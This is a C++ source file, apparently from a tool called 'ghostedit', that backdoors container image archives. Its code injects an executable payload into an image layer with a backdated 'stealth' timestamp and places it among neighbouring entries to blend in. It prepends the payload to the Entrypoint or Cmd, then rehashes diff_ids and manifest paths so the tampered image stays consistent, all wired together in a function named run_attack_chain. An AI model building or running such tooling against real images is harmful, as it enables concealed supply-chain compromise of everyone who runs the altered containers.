// SPDX-License-Identifier: Apache-2.0
//
// The tamper engine works byte-surgically: layer edits happen in the
// entry model, but every config/manifest rewrite is a textual splice
// into the original raw bytes so that nothing outside the intended
// token changes. A splice refuses to guess when its search token is
// not unique in the document.
#include "ghostedit/engine.hpp"

#include <algorithm>
#include <string_view>

#include <json.hpp>

#include "ghostedit/errors.hpp"
#include "ghostedit/time.hpp"

namespace ghostedit::engine {

using json = nlohmann::json;

namespace {

std::size_t count_occurrences(std::string_view haystack, std::string_view needle) {
    std::size_t count = 0;
    std::size_t pos = 0;
    while ((pos = haystack.find(needle, pos)) != std::string_view::npos) {
        ++count;
        pos += needle.size();
    }
    return count;
}

std::string_view as_view(const Bytes& bytes) {
    return {reinterpret_cast<const char*>(bytes.data()), bytes.size()};
}

/// Replaces the single occurrence of old_token with new_token.
void splice_unique(Bytes& raw, std::string_view old_token, std::string_view new_token,
                   const std::string& what) {
    std::string_view view = as_view(raw);
    std::size_t count = count_occurrences(view, old_token);
    if (count == 0)
        raise(Errc::InvariantViolation, what + " token not present in document");
    if (count > 1)
        raise(Errc::SpliceAmbiguous,
              what + " token occurs " + std::to_string(count) + " times; refusing to splice");
    std::size_t pos = view.find(old_token);
    raw.erase(raw.begin() + static_cast<std::ptrdiff_t>(pos),
              raw.begin() + static_cast<std::ptrdiff_t>(pos + old_token.size()));
    raw.insert(raw.begin() + static_cast<std::ptrdiff_t>(pos), new_token.begin(),
               new_token.end());
}

/// [start, end) byte range of the JSON value following `"key":`, with
/// the same uniqueness refusal as token splices.
std::pair<std::size_t, std::size_t> locate_value(const Bytes& raw, const std::string& key) {
    std::string_view view = as_view(raw);
    std::string quoted = "\"" + key + "\"";
    std::size_t count = count_occurrences(view, quoted);
    if (count == 0)
        raise(Errc::InvariantViolation, "config lacks a \"" + key + "\" key");
    if (count > 1)
        raise(Errc::SpliceAmbiguous,
              "\"" + key + "\" occurs " + std::to_string(count) + " times; refusing to splice");

    std::size_t pos = view.find(quoted) + quoted.size();
    while (pos < view.size() && (view[pos] == ' ' || view[pos] == '\t' || view[pos] == '\n'))
        ++pos;
    if (pos >= view.size() || view[pos] != ':')
        raise(Errc::InvariantViolation, "\"" + key + "\" is not followed by a value");
    ++pos;
    while (pos < view.size() && (view[pos] == ' ' || view[pos] == '\t' || view[pos] == '\n'))
        ++pos;
    if (pos >= view.size())
        raise(Errc::InvariantViolation, "\"" + key + "\" is not followed by a value");

    std::size_t start = pos;
    if (view.compare(pos, 4, "null") == 0)
        return {start, pos + 4};
    if (view[pos] != '[')
        raise(Errc::InvariantViolation, "\"" + key + "\" value is neither a list nor null");

    int depth = 0;
    bool in_string = false;
    bool escaped = false;
    for (; pos < view.size(); ++pos) {
        char c = view[pos];
        if (in_string) {
            if (escaped)
                escaped = false;
            else if (c == '\\')
                escaped = true;
            else if (c == '"')
                in_string = false;
            continue;
        }
        if (c == '"')
            in_string = true;
        else if (c == '[')
            ++depth;
        else if (c == ']' && --depth == 0)
            return {start, pos + 1};
    }
    raise(Errc::InvariantViolation, "\"" + key + "\" list is unterminated");
}

void splice_list_value(Bytes& raw, const std::string& key,
                       const std::vector<std::string>& values) {
    auto [start, end] = locate_value(raw, key);
    std::string rendered = json(values).dump();
    raw.erase(raw.begin() + static_cast<std::ptrdiff_t>(start),
              raw.begin() + static_cast<std::ptrdiff_t>(end));
    raw.insert(raw.begin() + static_cast<std::ptrdiff_t>(start), rendered.begin(),
               rendered.end());
}

int shared_leading_segments(std::string_view a, std::string_view b) {
    int shared = 0;
    std::size_t pa = 0, pb = 0;
    while (pa < a.size() && pb < b.size()) {
        std::size_t sa = a.find('/', pa);
        std::size_t sb = b.find('/', pb);
        std::string_view seg_a = a.substr(pa, (sa == std::string_view::npos ? a.size() : sa) - pa);
        std::string_view seg_b = b.substr(pb, (sb == std::string_view::npos ? b.size() : sb) - pb);
        if (seg_a != seg_b)
            break;
        ++shared;
        if (sa == std::string_view::npos || sb == std::string_view::npos)
            break;
        pa = sa + 1;
        pb = sb + 1;
    }
    return shared;
}

[[noreturn]] void precondition_failure(const std::string& action, const std::string& path,
                                       const std::string& reason) {
    Error err(Errc::PreconditionViolated, action + " " + path + ": " + reason);
    err.path = path;
    throw err;
}

std::int64_t mtime_for(MtimePolicy policy, std::int64_t created_epoch,
                       std::optional<std::int64_t> original) {
    switch (policy) {
    case MtimePolicy::Stealth:
        return created_epoch;
    case MtimePolicy::PreserveOriginal:
        return original.value_or(created_epoch);
    case MtimePolicy::Honest:
        return wall_clock_seconds();
    }
    return created_epoch;
}

/// Insertion point for a new entry: right after the last existing
/// entry sharing the deepest common directory prefix, so the addition
/// blends into the run of entries already touching that directory.
std::size_t insertion_index(const layerfs::LayerBlob& layer, std::string_view path) {
    int best_depth = -1;
    std::size_t best_pos = layer.entries.size();
    for (std::size_t i = 0; i < layer.entries.size(); ++i) {
        int depth = shared_leading_segments(layer.entries[i].path, path);
        if (depth >= best_depth) {
            best_depth = depth;
            best_pos = i + 1;
        }
    }
    return best_pos;
}

struct LayerEditContext {
    layerfs::LayerBlob& layer;
    std::int64_t created_epoch;
};

void apply_inject(LayerEditContext& ctx, const InjectFile& action) {
    std::string path = tar::normalize_path(action.path);
    if (ctx.layer.find(path) != nullptr)
        precondition_failure("inject", path, "path already present in target layer");
    tar::TarEntry entry;
    entry.path = path;
    entry.kind = tar::EntryKind::Regular;
    entry.content = action.content;
    entry.mode = action.mode;
    entry.mtime = mtime_for(action.mtime_policy, ctx.created_epoch, std::nullopt);
    ctx.layer.entries.insert(
        ctx.layer.entries.begin() + static_cast<std::ptrdiff_t>(insertion_index(ctx.layer, path)),
        std::move(entry));
}

void apply_replace(LayerEditContext& ctx, const ReplaceEntry& action) {
    std::string path = tar::normalize_path(action.path);
    auto& entries = ctx.layer.entries;
    auto it = std::find_if(entries.rbegin(), entries.rend(),
                           [&](const tar::TarEntry& e) { return e.path == path; });
    if (it == entries.rend())
        precondition_failure("replace", path, "path not present in target layer");
    tar::TarEntry& old = *it;

    tar::TarEntry replacement;
    replacement.path = path;
    replacement.kind = action.new_kind;
    replacement.mode = action.mode;
    replacement.uid = old.uid;
    replacement.gid = old.gid;
    replacement.mtime = mtime_for(action.mtime_policy, ctx.created_epoch, old.mtime);
    switch (action.new_kind) {
    case tar::EntryKind::Regular:
        replacement.content = action.content;
        break;
    case tar::EntryKind::Symlink:
    case tar::EntryKind::Hardlink:
        replacement.link_target = action.link_target;
        break;
    case tar::EntryKind::Directory:
        break;
    case tar::EntryKind::Opaque:
        precondition_failure("replace", path, "cannot replace with an opaque entry");
    }
    old = std::move(replacement);
}

void apply_remove(LayerEditContext& ctx, const RemoveEntry& action) {
    std::string path = tar::normalize_path(action.path);
    auto& entries = ctx.layer.entries;
    auto removed = std::erase_if(entries, [&](const tar::TarEntry& e) { return e.path == path; });
    if (removed == 0)
        precondition_failure("remove", path, "path not present in target layer");
}

} // namespace

const char* mtime_policy_name(MtimePolicy policy) {
    switch (policy) {
    case MtimePolicy::Stealth: return "stealth";
    case MtimePolicy::PreserveOriginal: return "preserve";
    case MtimePolicy::Honest: return "honest";
    }
    return "?";
}

int resolve_target(const ImageArchive& image, const EditPlan& plan) {
    if (const int* index = std::get_if<int>(&plan.target)) {
        if (*index < 0 || static_cast<std::size_t>(*index) >= image.layers.size())
            raise(Errc::IndexOutOfRange,
                  "target layer " + std::to_string(*index) + " outside 0.." +
                      std::to_string(image.layers.size() ? image.layers.size() - 1 : 0));
        return *index;
    }
    const auto& auto_target = std::get<AutoLatestTouching>(plan.target);
    std::optional<int> found =
        layerfs::find_last_layer_touching(image.layers, auto_target.path_prefix);
    if (!found) {
        Error err(Errc::TargetNotFound,
                  "no layer touches prefix '" + auto_target.path_prefix + "'");
        err.path = auto_target.path_prefix;
        throw err;
    }
    return *found;
}

ImageConfig prepend_entrypoint(const ImageConfig& config, const std::string& payload_path) {
    if (payload_path.empty() || payload_path.front() != '/')
        raise(Errc::PreconditionViolated,
              "entrypoint payload path must be absolute within the rootfs: '" + payload_path +
                  "'");

    Bytes raw = config.raw_bytes;
    if (config.runtime.entrypoint.empty() && !config.runtime.command.empty()) {
        std::vector<std::string> command = config.runtime.command;
        command.insert(command.begin(), payload_path);
        splice_list_value(raw, "Cmd", command);
    } else {
        std::vector<std::string> entrypoint = config.runtime.entrypoint;
        entrypoint.insert(entrypoint.begin(), payload_path);
        splice_list_value(raw, "Entrypoint", entrypoint);
    }
    return ImageConfig::parse(std::move(raw));
}

ImageArchive rehash_and_relink(ImageArchive image, int edited_index) {
    if (edited_index < 0 || static_cast<std::size_t>(edited_index) >= image.layers.size())
        raise(Errc::IndexOutOfRange, "edited layer index out of range");
    auto index = static_cast<std::size_t>(edited_index);

    Digest old_digest = image.config.diff_ids[index];
    Digest new_digest = archive::compute_diff_id(image.layers[index]);
    if (new_digest == old_digest)
        return image;

    splice_unique(image.config.raw_bytes, old_digest.hex, new_digest.hex, "diff_id");
    image.config = ImageConfig::parse(std::move(image.config.raw_bytes));

    const std::string old_path = tar::normalize_path(image.manifest.layer_paths[index]);
    auto slash = old_path.find('/');
    if (slash != std::string::npos) {
        const std::string old_dir = old_path.substr(0, slash);
        const std::string new_dir = new_digest.hex;
        const std::string new_path = new_dir + old_path.substr(slash);

        splice_unique(image.manifest.raw_bytes, old_path, new_path, "manifest layer path");
        image.manifest = archive::Manifest::parse(std::move(image.manifest.raw_bytes));

        for (auto& member : image.members) {
            if (member.entry.path == old_dir)
                member.entry.path = new_dir;
            else if (member.entry.path.starts_with(old_dir + "/"))
                member.entry.path = new_dir + member.entry.path.substr(old_dir.size());
        }
    }
    return image;
}

std::pair<ImageArchive, EditReport> apply_edit(const ImageArchive& image, const EditPlan& plan) {
    if (plan.actions.empty() && !plan.probe)
        raise(Errc::PreconditionViolated, "plan has no actions and is not marked as a probe");
    std::size_t prepend_count = 0;
    for (const auto& action : plan.actions)
        if (std::holds_alternative<PrependEntrypoint>(action))
            ++prepend_count;
    if (prepend_count > 1)
        raise(Errc::PreconditionViolated, "at most one prepend-entrypoint action per plan");

    int resolved = resolve_target(image, plan);
    auto layer_index = static_cast<std::size_t>(resolved);

    std::optional<std::int64_t> created_epoch = parse_rfc3339(image.config.created);
    if (!created_epoch)
        raise(Errc::ConfigUnparseable,
              "created timestamp '" + image.config.created + "' is not RFC 3339");

    ImageArchive edited = image;
    EditReport report;
    report.resolved_layer = resolved;
    report.old_diff_id = image.config.diff_ids[layer_index];
    report.old_image_id = archive::compute_image_id(image.config);
    const std::int64_t old_layer_size =
        static_cast<std::int64_t>(layerfs::write_layer(image.layers[layer_index]).size());

    LayerEditContext ctx{edited.layers[layer_index], *created_epoch};
    for (const auto& action : plan.actions) {
        std::visit(
            [&](const auto& a) {
                using T = std::decay_t<decltype(a)>;
                if constexpr (std::is_same_v<T, InjectFile>) {
                    apply_inject(ctx, a);
                    report.actions_applied.push_back({"inject", a.path});
                } else if constexpr (std::is_same_v<T, ReplaceEntry>) {
                    apply_replace(ctx, a);
                    report.actions_applied.push_back({"replace", a.path});
                } else if constexpr (std::is_same_v<T, RemoveEntry>) {
                    apply_remove(ctx, a);
                    report.actions_applied.push_back({"remove", a.path});
                } else if constexpr (std::is_same_v<T, PrependEntrypoint>) {
                    edited.config = prepend_entrypoint(edited.config, a.payload_path);
                    report.actions_applied.push_back({"prepend-entrypoint", a.payload_path});
                }
            },
            action);
    }

    edited = rehash_and_relink(std::move(edited), resolved);

    if (archive::compute_diff_id(edited.layers[layer_index]) !=
        edited.config.diff_ids[layer_index])
        raise(Errc::InvariantViolation, "post-edit rehash failed to bind the edited layer");

    report.new_diff_id = edited.config.diff_ids[layer_index];
    report.new_image_id = archive::compute_image_id(edited.config);
    report.bytes_delta =
        static_cast<std::int64_t>(layerfs::write_layer(edited.layers[layer_index]).size()) -
        old_layer_size;
    report.entrypoint_after = edited.config.runtime.entrypoint;
    report.command_after = edited.config.runtime.command;
    return {std::move(edited), std::move(report)};
}

AttackResult run_attack_chain(std::span<const std::uint8_t> archive_bytes, const Bytes& payload,
                              const std::string& payload_name, const std::string& target_prefix) {
    if (payload_name.empty() || payload_name.find('/') != std::string::npos)
        raise(Errc::PreconditionViolated,
              "payload name must be a bare file name: '" + payload_name + "'");

    ImageArchive image = archive::load_archive(archive_bytes);
    const std::string prefix = tar::normalize_path(target_prefix);
    const std::string entry_path = prefix + "/" + payload_name;

    EditPlan plan;
    plan.target = AutoLatestTouching{prefix};
    plan.actions.push_back(InjectFile{entry_path, payload, 0755, MtimePolicy::Stealth});
    plan.actions.push_back(PrependEntrypoint{"/" + entry_path});

    auto [edited, report] = apply_edit(image, plan);
    return AttackResult{archive::save_archive(edited), std::move(report)};
}

} // namespace ghostedit::engine
